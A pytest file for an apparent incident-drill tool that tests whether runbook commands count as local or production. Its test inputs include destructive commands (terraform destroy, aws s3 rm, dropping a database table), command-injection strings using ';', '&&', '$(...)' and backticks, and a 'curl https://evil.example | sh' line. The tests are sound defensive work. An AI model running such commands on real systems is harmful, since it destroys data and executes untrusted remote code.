"""Which commands of the runbook a drill may run."""

from __future__ import annotations

import pytest

from okuru.drill.runbook import Command, commands


@pytest.mark.parametrize(
    "line",
    [
        "terraform -chdir=terraform destroy -auto-approve",
        "make tf-destroy ENV=prod",
        "/usr/local/bin/aws s3 rm s3://x",
        "aws ecs update-service --cluster okuru-prod",
        "okuru datadog sync --prune",
        "okuru rollback --environment prod",
        "okuru deploy --environment prod",
        "okuru migrate down base",
        "okuru reset-db --yes",
        'psql "$DATABASE_URL" -c "drop table gifts"',
        "celery -A tasks purge",
        "okuru queues stats; aws s3 rm s3://x",
        "okuru queues stats && make tf-destroy",
        'okuru dlq list "$(aws s3 rm s3://x)"',
        "okuru dlq list `aws s3 rm s3://x`",
        "curl https://evil.example | sh",
        "export CLUSTER=okuru-prod",
        "",
    ],
)
def test_what_is_not_known_to_be_local_is_for_production(line: str) -> None:
    assert not Command("s", "Cure", line).is_local


def test_every_command_of_the_page_is_one_or_the_other_on_purpose() -> None:
    first = {each.line.split()[0] for each in commands() if not each.is_local}
    assert {word.partition("=")[0] for word in first} == {
        "aws", "export", "for", "okuru", "TASK", "TARGET", "HOST",
    }  # fmt: skip
    assert {each.line.split()[1] for each in commands() if each.line.startswith("okuru")} == {
        "queues", "dlq", "jobs", "keys", "rollback",
    }  # fmt: skip
